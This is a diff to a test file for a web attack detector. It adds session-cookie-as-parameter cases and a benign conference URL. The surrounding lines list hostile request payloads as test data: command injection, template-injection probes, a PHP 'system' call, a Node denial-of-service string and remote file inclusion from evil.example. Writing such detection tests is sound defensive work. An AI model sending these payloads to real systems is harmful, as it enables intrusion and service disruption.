@@ -267,6 +267,13 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['rce-windows-if-compare', '/p?c=x%26if+%25a%25+equ+1+echo+y'],
   ['generic-template-math', '/p?name=${7*7}'],
   ['generic-template-math', '/p?name=*{7*7}'], // Thymeleaf's selection expression
+  // Framework session cookies planted as parameters, with no Referer.
+  ['session-id-param', '/cart?JSESSIONIDSSO=0123456789ABCDEF'],
+  ['session-id-param', '/portal?SMSESSION=AbCdEf123'],
+  ['session-id-param', '/app?PLAY_SESSION=abc123'],
+  ['session-id-param', '/app?koa.sess=eyJ1c2VyIjoxfQ'],
+  ['session-id-param', '/node?SESS0123456789abcdef0123456789abcdef=xyz'],
+  ['session-id-param', '/login?_shop_session=BAh7BkkiD3Nlc3Npb25faWQGOgZFVA'],
   ['generic-node-dos-allocation', "/api?x='a'.repeat(100000000)"],
   ['php-concatenated-name-call', "/p?x=('sys'.'tem')('id')"],
   ['rfi-unc-path', '/p?file=%5C%5Cevil.example%5Cshare%5Cx.php'],
@@ -287,6 +294,7 @@ const USER_AGENT_ATTACKS: ReadonlyArray<readonly [string, string]> = [
 const BENIGN: readonly string[] = [
   "/api/acl?path='/*'&verb=read", // a quoted glob, not a comment after a string
   '/go?u=https://cdn.example//assets//app.js', // doubled slashes in an ordinary URL
+  '/conference/talks?session=3&track=web', // a session of talks, not a session id
   '/secure/attachment/10200/server.log', // an issue tracker's attachment
   '/acme/app/-/blob/main/logs/build.log', // a log file shown by a code-hosting site
   '/shop-bucket/logs/app.log?uploads', // an object in a bucket, by S3's path-style API
